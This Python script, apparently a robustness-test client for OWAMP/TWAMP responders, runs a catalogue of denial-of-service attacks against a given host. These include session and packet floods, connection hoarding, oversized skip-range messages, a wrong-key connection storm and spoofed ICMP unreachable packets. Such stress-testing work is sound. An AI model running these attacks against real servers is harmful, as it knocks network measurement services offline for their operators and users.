# SPDX-License-Identifier: MIT
"""What a stranger may do to a responder: a client in open mode that asks for what it likes, octet by octet (RFC 4656, 3).

stranger.py [--from ADDRESS,ADDRESS...] HOST PORT ATTACK [ARGUMENT...] prints "ready" once it has done its worst, and stays
until it is killed. Given addresses, each does it.
"""
import collections
import concurrent.futures
import contextlib
import itertools
import os
import resource
import signal
import socket
import struct
import sys
import threading
import time

TO_1970 = 2208988800  # seconds from 1900
HMAC = bytes(16)
MOST = 2**32 - 1
ANSWERS = {}  # how often each Accept came; SIGUSR1 prints it


def stamp(seconds):
    """So many seconds from now, as 32.32."""
    return int((time.time() + TO_1970 + seconds) * 2**32) % 2**64


class Refused(Exception):
    """What the responder doesn't let a stranger do."""


class Stranger:
    def __init__(self, host, port, source=None):
        self.tcp = socket.create_connection((host, int(port)), source_address=source and (source, 0))
        self.tcp.settimeout(30)
        self.ports = []
        self.others = []
        self.read(64)
        self.tcp.sendall(struct.pack('>I160x', 1))
        if self.read(48)[15] != 0:
            raise Refused('not let in')

    def again(self):
        """Another connection of the same stranger."""
        self.others.append(type(self)(*self.tcp.getpeername()[:2], self.tcp.getsockname()[0]))
        return self.others[-1]

    def read(self, octets):
        data = b''
        while len(data) < octets:
            part = self.tcp.recv(octets - len(data))
            if not part:
                raise Refused('the responder closed the connection')
            data += part
        return data

    def own_port(self):
        """A UDP port to receive test packets at."""
        udp = socket.socket(self.tcp.family, socket.SOCK_DGRAM)
        udp.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1)  # nobody reads it
        udp.bind((self.tcp.getsockname()[0], 0))
        self.ports.append(udp)
        return udp.getsockname()[1]

    def addresses(self):
        ends = (self.tcp.getpeername()[0], self.tcp.getsockname()[0])
        return b''.join(socket.inet_pton(self.tcp.family, end).ljust(16, b'\0') for end in ends)

    def request(self, sends, packets, slots, start=0.5, timeout=2.0, padding=0):
        """Request-Session: the server sends, or receives, by fixed slots (seconds)."""
        ipvn = 6 if self.tcp.family == socket.AF_INET6 else 4
        port = self.own_port() if sends else 0
        ends = self.addresses() if sends else self.addresses()[16:] + self.addresses()[:16]
        return (struct.pack('>BBBBIIHH', 1, ipvn, sends, not sends, len(slots), packets, 0 if sends else 9, port) + ends +
                (os.urandom(16) if sends else bytes(16)) +
                struct.pack('>IQQI8x', padding, stamp(start), int(timeout * 2**32), 0) + HMAC +
                b''.join(struct.pack('>B7xQ', 1, int(slot * 2**32)) for slot in slots) + HMAC)

    def ask(self, *request, **more):
        """Accept of Accept-Session, and the SID."""
        return self.ask_often(1, *request, **more)[0]

    def ask_often(self, count, *request, **more):
        """Many sessions, without waiting for each answer: Accept, SID and port of each."""
        answers = []
        while len(answers) < count:
            some = min(100, count - len(answers))
            self.tcp.sendall(b''.join(self.request(*request, **more) for _ in range(some)))
            answers += [(a[0], a[4:20], a[2] << 8 | a[3]) for a in (self.read(48) for _ in range(some))]
        return answers

    def begin(self):
        """Start-Sessions."""
        self.tcp.sendall(struct.pack('>B31x', 2))
        if self.read(32)[0] != 0:
            raise Refused('sessions were not started')


class TwampStranger(Stranger):
    """The same of TWAMP (RFC 5357, 3)."""

    def request(self, port, timeout, padding):
        """Request-TW-Session, from that UDP port of ours; the server sends likewise."""
        ipvn = 6 if self.tcp.family == socket.AF_INET6 else 4
        return struct.pack('>BBHQHH48xIQQI24x', 5, ipvn, 0, 0, port, 0, padding, 0, int(timeout * 2**32), 0)


# Each attack returns what its sessions were answered.

def overdue(stranger, sessions, start, slot=1e-6):
    """Sessions whose packets are due since long ago, by default a million a second."""
    answers = stranger.ask_often(int(sessions), True, MOST, [float(slot)], start=float(start))
    stranger.begin()
    return answers


def lost(stranger, packets):
    """As many packets as that are lost at once."""
    answer = stranger.ask(False, int(packets), [50.0 / int(packets)], start=-55, timeout=1.0)
    stranger.begin()
    return [answer]


def fetches(stranger, packets, count):
    """Many fetches in one go, each of no record of a session that has that many."""
    [answer] = lost(stranger, packets)
    time.sleep(0.2)
    stranger.again().tcp.sendall(struct.pack('>B7xII16s16x', 4, MOST - 1, MOST - 1, answer[1]) * int(count))
    return [answer]


def deaf(stranger, packets, connections):
    """Fetches all records of a long session many times over, and reads nothing of it."""
    [answer] = lost(stranger, packets)
    time.sleep(0.2)
    for _ in range(int(connections)):
        stranger.again().tcp.sendall(struct.pack('>B7xII16s16x', 4, 0, MOST, answer[1]) * 100)
    return [answer]


def agreed(stranger, sessions, packets):
    """Sessions that are agreed on and never started, and many packets to the port of each."""
    answers = stranger.ask_often(int(sessions), False, 1000, [1.0], padding=1000)
    udp = socket.socket(stranger.tcp.family, socket.SOCK_DGRAM)
    udp.bind((stranger.tcp.getsockname()[0], 9))
    for accept, _, port in answers:
        for _ in range(int(packets) if accept == 0 else 0):
            udp.sendto(bytes(1014), (stranger.tcp.getpeername()[0], port))
    return answers


def tiny(stranger, sessions):
    """Sessions of one packet, as many as there may be: started, and all stopped at once; then they are kept."""
    answers = stranger.ask_often(int(sessions), False, 1, [0.01], start=0)
    stranger.begin()
    stranger.tcp.sendall(struct.pack('>B31x', 3))
    return answers


def skips(stranger, sessions, ranges):
    """Stop-Sessions with skip ranges, 16384 for each session at most, of packets that the sessions don't have."""
    count = int(ranges)
    answers = stranger.ask_often(int(sessions), False, 10, [1.0])
    stranger.begin()
    some = b''.join(struct.pack('>II', 2 * i, 2 * i) for i in range(count))
    some += bytes(-(24 + len(some)) % 16)
    ends = b''.join(answer[1] + struct.pack('>II', 2 * count, count) + some for answer in answers)
    with contextlib.suppress(OSError):  # it isn't listened to, to the end
        stranger.tcp.sendall(struct.pack('>BxxxI8x', 3, len(answers)) + ends + HMAC)
    return answers


def flows(stranger, sessions, slot):
    """Sessions that send to us, each over its own connection."""
    return [flow(one, 1000000, slot)[0] for one in [stranger] + [stranger.again() for _ in range(int(sessions) - 1)]]


def rounds(stranger, sessions, rounds):
    """Many sessions of one packet on one connection, started and stopped again and again."""
    for _ in range(int(rounds)):
        for _ in range(int(sessions)):
            stranger.tcp.sendall(stranger.request(False, 1, [0.1], start=0.0, timeout=0.1))
        agreed = [stranger.read(48) for _ in range(int(sessions))]
        sids = [answer[4:20] for answer in agreed if answer[0] == 0]
        print('agreed', len(sids))
        stranger.begin()
        time.sleep(0.2)
        stranger.tcp.sendall(struct.pack('>BB2xI8x', 3, 0, len(sids)) +
                             b''.join(sid + struct.pack('>II8x', 1, 0) for sid in reversed(sids)) + HMAC)
        head = stranger.read(16)
        stranger.read(struct.unpack('>I', head[4:8])[0] * 32 + 16)


def named(stranger, host, low, high):
    """Sessions whose packets are to come from another host, from each of its ports."""
    answers = []
    for port in range(int(low), int(high) + 1):
        request = bytearray(stranger.request(False, 1000, [1.0]))
        request[12:14] = struct.pack('>H', port)
        request[16:32] = socket.inet_pton(stranger.tcp.family, host).ljust(16, b'\0')
        stranger.tcp.sendall(request)
        answer = stranger.read(48)
        answers.append((answer[0], answer[4:20], answer[2] << 8 | answer[3]))
    stranger.begin()
    return answers


def unreachable(stranger, host, port):
    """ICMP's word, from an address that isn't that host's, that nobody listens at its port for what comes from UDP 861."""
    def summed(octets):
        total = sum(struct.unpack(f'>{len(octets) // 2}H', octets))
        total = (total >> 16) + (total & 0xffff)
        return ~(total + (total >> 16)) & 0xffff
    server, family = stranger.tcp.getpeername()[0], stranger.tcp.family
    ends = socket.inet_pton(family, server) + socket.inet_pton(family, host)
    udp = struct.pack('>HHHH', 861, int(port), 22, 0)
    if family == socket.AF_INET6:  # whose checksum is the kernel's work
        raw = socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
        word = struct.pack('>BBHI', 1, 4, 0, 0) + struct.pack('>IHBB', 6 << 28, 22, 17, 255) + ends + udp
    else:
        raw = socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_ICMP)
        word = bytearray(struct.pack('>BBHI', 3, 3, 0, 0) + struct.pack('>BBHHHBBH', 0x45, 0, 42, 1, 0, 255, 17, 0) + ends + udp)
        word[2:4] = struct.pack('>H', summed(word))
    raw.bind((stranger.tcp.getsockname()[0], 0))
    for _ in range(20):
        raw.sendto(word, (server, 0))
    return []


def burst(stranger, sessions, padding):
    """Sessions whose packets are all due at once, though there are few of them on average."""
    answers = stranger.ask_often(int(sessions), True, 255, [0] * 255 + [60], padding=int(padding))
    stranger.begin()
    return answers


def twamp_agreed(stranger, connections, packets):
    """TWAMP's sessions, 256 on each of many connections, that are never started, and packets for them."""
    answers = []
    udp = socket.socket(stranger.tcp.family, socket.SOCK_DGRAM)
    udp.bind((stranger.tcp.getsockname()[0], 0))
    for i in range(int(connections)):
        one = stranger if i == 0 else stranger.again()
        for port in range(1024 + 256 * i, 1024 + 256 * (i + 1)):
            answers += one.ask_often(1, port, 600, 1900)
    for _ in range(int(packets)):
        udp.sendto(bytes(1914), (stranger.tcp.getpeername()[0], answers[0][2]))
    return answers


def twamp_stopped(stranger, rounds, sessions):
    """TWAMP's sessions that go on for ten minutes after their stop, again and again."""
    answers = []
    for i in range(int(rounds)):
        some = [stranger.ask(1024 + int(sessions) * i + j, 600, 0) for j in range(int(sessions))]
        answers += some
        if any(answer[0] == 0 for answer in some):
            stranger.begin()
            stranger.tcp.sendall(struct.pack('>BxxxI24x', 3, sum(answer[0] == 0 for answer in some)))
    return answers


def twamp_flood(stranger, sessions, octets):
    """TWAMP's sessions that run, and are asked as fast as can be."""
    answers = [stranger.ask(stranger.own_port(), 600, 1000) for _ in range(int(sessions))]
    stranger.begin()

    def ask():
        far = (stranger.tcp.getpeername()[0], answers[0][2])
        question = struct.pack('>IQH', 0, 0, 1).ljust(int(octets), b'\0')
        for udp in itertools.cycle(stranger.ports):
            with contextlib.suppress(OSError):
                udp.sendto(question, far)

    threading.Thread(target=ask, daemon=True).start()
    return answers


def wrong_keys(stranger, at_once):
    """So many connections at once, each of which tries a wrong key, known or not, and then another; counts the answers."""
    answers = ANSWERS
    key_ids = itertools.cycle((b'monitor', b'nobody'))

    def try_keys():
        while True:
            try:
                with socket.create_connection(stranger.tcp.getpeername()[:2]) as tcp:
                    tcp.recv(64, socket.MSG_WAITALL)
                    tcp.sendall(struct.pack('>I80s64s16s', 4, next(key_ids), os.urandom(64), bytes(16)))
                    answer = tcp.recv(48, socket.MSG_WAITALL)
                    accept = answer[15] if len(answer) == 48 else 'none'
            except OSError:
                accept = 'none'
            answers[accept] = answers.get(accept, 0) + 1

    for _ in range(int(at_once)):
        threading.Thread(target=try_keys, daemon=True).start()
    while not {1, 5} <= answers.keys():
        time.sleep(0.01)


def flow(stranger, packets, slot):
    """A session that sends to us."""
    answer = stranger.ask(True, int(packets), [float(slot)])
    stranger.begin()
    return [answer]


def hoard(stranger, connections, sessions):
    """As many control connections as there may be, most of them silent, and as many sessions on one of them; prints what is had."""
    answers = [stranger.ask(False, 1, [1.0])[0] for _ in range(int(sessions))]
    print('sessions', answers.count(0), 'accept', *sorted(set(answers)))
    stranger.begin()
    stranger.silent = []
    for _ in range(int(connections)):
        silent = socket.create_connection(stranger.tcp.getpeername()[:2])
        silent.settimeout(5)
        if silent.recv(64)[12:16] != bytes(4):
            stranger.silent.append(silent)
    print('connections', 1 + len(stranger.silent))


def attack_from(source):
    stranger = (TwampStranger if attack.startswith('twamp') else Stranger)(host, port, source)
    return stranger, globals()[attack](stranger, *arguments)


if __name__ == '__main__':
    words = sys.argv[1:]
    sources = words[1].split(',') if words[0] == '--from' else [None]
    host, port, attack, *arguments = words[2:] if words[0] == '--from' else words
    signal.signal(signal.SIGUSR1, lambda *_: print('answers', ANSWERS, flush=True))
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    with concurrent.futures.ThreadPoolExecutor(50) as pool:
        ends = [pool.submit(attack_from, source) for source in sources]
    failed = [str(end.exception()) for end in ends if end.exception()]
    if len(failed) == len(ends):
        sys.exit(failed[0])
    answers = collections.Counter(answer[0] for end in ends if not end.exception() for answer in end.result()[1] or ())
    print('accept', *sorted(answers), 'of', *[answers[accept] for accept in sorted(answers)])
    print('ready', *failed and [f'but for {len(failed)} of {len(ends)}: {failed[0]}'], flush=True)
    while True:
        signal.pause()
